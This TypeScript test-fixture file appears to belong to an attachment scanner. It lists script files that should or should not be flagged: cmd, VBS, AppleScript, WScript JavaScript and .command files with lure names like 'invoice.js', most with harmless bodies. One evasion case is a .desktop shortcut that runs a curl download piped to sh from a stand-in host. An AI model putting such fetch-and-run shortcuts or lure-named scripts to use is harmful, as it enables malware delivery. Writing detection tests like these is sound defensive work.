import type { Examples } from "@doorward/core";
import { makeZip } from "../../text/example-zip.ts";

/** Scripts that came by themselves, and scripts where one expects them. */
export const examples: Examples = {
  hits: [
    {
      name: "a script for the command interpreter",
      delivered: true,
      files: { "fix-camera.cmd": "@echo off\r\necho one\r\n" },
    },
    {
      name: "a script of Windows in an archive",
      delivered: true,
      files: { "details.zip": makeZip([{ name: "details.vbs", content: 'MsgBox "one"\r\n' }]) },
    },
    { name: "an update as AppleScript", delivered: true, files: { "Zoom SDK Update.scpt": 'display dialog "one"\n' } },
    {
      name: "JavaScript for the script host of Windows",
      delivered: true,
      files: { "invoice.js": 'var shell = new ActiveXObject("WScript.Shell");\nshell.Popup("one");\n' },
    },
    {
      name: "JavaScript alone in an archive",
      delivered: true,
      files: {
        "contract_template.zip": makeZip([
          {
            name: "contract_template.js",
            content: "function read(a) { return a.split('').reverse().join(''); }\nvar b = read('eno');\n",
          },
        ]),
      },
    },
    {
      name: "a script that macOS opens in its terminal",
      delivered: true,
      files: { "Repair.command": "#!/bin/sh\necho one\n" },
    },
  ],
  misses: [
    {
      name: "a script of a project that was sent for a review",
      why: "A project has scripts; other rules read what they do.",
      delivered: true,
      files: {
        "project.zip": makeZip([
          { name: "package.json", content: '{"name":"shop","version":"1.0.0"}' },
          { name: "scripts/build.sh", content: "#!/bin/sh\nnpm run build\n" },
        ]),
      },
    },
    {
      name: "the script of a page that was saved",
      why: "It runs in a browser only.",
      delivered: true,
      files: {
        "page.zip": makeZip([
          { name: "page.html", content: "<!DOCTYPE html><html><script src=page_files/a.js></script></html>" },
          {
            name: "page_files/a.js",
            content: "document.title = 'one';\nfunction show() { return document.title; }\nshow();\n",
          },
        ]),
      },
    },
    {
      name: "commands that a customer ran, as a text",
      why: "A text is shown and starts nothing.",
      delivered: true,
      files: { "steps.txt": "I ran these:\n\nping docs.example\nnslookup docs.example\n" },
    },
    {
      name: "a script that a customer pasted into a text",
      why: "It is named as a text, which is shown and starts nothing.",
      delivered: true,
      files: {
        "what-i-ran.txt":
          "@echo off\r\nsetlocal\r\nset name=one\r\nif exist %name% goto end\r\necho %name%\r\n:end\r\nendlocal\r\n",
      },
    },
    {
      name: "a program in Python",
      why: "Systems show it unless somebody has set up otherwise.",
      delivered: true,
      files: { "sum.py": "import sys\n\nprint(sum(int(each) for each in sys.argv[1:]))\n" },
    },
  ],
  evasions: [
    {
      name: "the script inside a shortcut's command line",
      caughtBy: "file/shortcut-fetches-program",
      delivered: true,
      files: {
        "Fix.desktop": "[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s https://files.example/f | sh'\n",
      },
    },
  ],
};
